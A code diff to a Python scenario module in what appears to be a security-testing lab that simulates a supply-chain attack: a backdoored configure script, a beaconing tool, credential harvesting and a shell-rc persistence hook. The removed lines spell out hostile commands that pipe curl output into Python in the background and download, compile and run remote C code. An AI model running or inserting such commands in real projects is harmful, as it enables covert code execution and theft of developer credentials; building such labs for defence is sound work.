@@ -10,7 +10,7 @@ credentials from the developer's files and uploads them to a drop server.
 from __future__ import annotations
 
 from provarmor.lab import techniques as t
-from provarmor.lab.context import PYTHON, LabContext
+from provarmor.lab.context import LabContext
 from provarmor.lab.payloads import backdoored_tool_c
 from provarmor.lab.scenario import (
     Action,
@@ -21,7 +21,8 @@ from provarmor.lab.scenario import (
     SetupFile,
     StepSpec,
 )
-from provarmor.lab.scenarios.implants import implant_payload
+from provarmor.lab.scenarios.implants import fileless_start, implant_payload
+from provarmor.lab.scenarios.steps import compile_downloaded
 
 STEPS = (
     StepSpec(
@@ -73,7 +74,7 @@ clean:
 
 _CONFIGURE = """#!/bin/sh
 # {dep} configure: detect the platform
-nohup sh -c 'curl -s {url} | {python} -' >/dev/null 2>&1 &
+{start}
 echo '#define PLATFORM "linux"'
 echo '#define VERSION "{version}"'
 """
@@ -99,7 +100,7 @@ def _project(
             path=f"{project}/vendor/{dep}/configure",
             mode=0o755,
             owner=user,
-            content=_CONFIGURE.format(dep=dep, url=url, python=PYTHON, version=version),
+            content=_CONFIGURE.format(dep=dep, start=fileless_start(url), version=version),
         ),
         SetupFile(
             path=f"{home}/.git-credentials",
@@ -126,9 +127,7 @@ def plan(ctx: LabContext) -> Plan:
         content=backdoored_tool_c(beacon_url=f"{ctx.c2.url}/{ctx.names.token(5)}"),
     )
     harvest = f"/var/tmp/{ctx.names.hidden()}"  # noqa: S108  (the attacker's choice)
-    rc_line = (
-        f"nohup sh -c 'curl -s {ctx.payload_url(implant.path)} | {PYTHON} -' >/dev/null 2>&1 &"
-    )
+    rc_line = fileless_start(ctx.payload_url(implant.path))
     return Plan(
         setup_files=_project(
             ctx, project=project, tool=tool, dep=dep, url=ctx.payload_url(implant.path)
@@ -149,9 +148,10 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="backdoor-binary",
                 channel=Channel.IMPLANT,
-                command=f"d=$(mktemp -d) && curl -s -o $d/m.c {ctx.payload_url(source.path)} && "
-                f"gcc -O1 -o {project}/build/{tool} $d/m.c && rm -rf $d && "
-                f"{project}/build/{tool}",
+                command=compile_downloaded(
+                    ctx, source, f"{project}/build/{tool}", flags="-O1", scratch="m.c"
+                )
+                + f" && {project}/build/{tool}",
             ),
             Action(
                 step="shell-rc-hook",
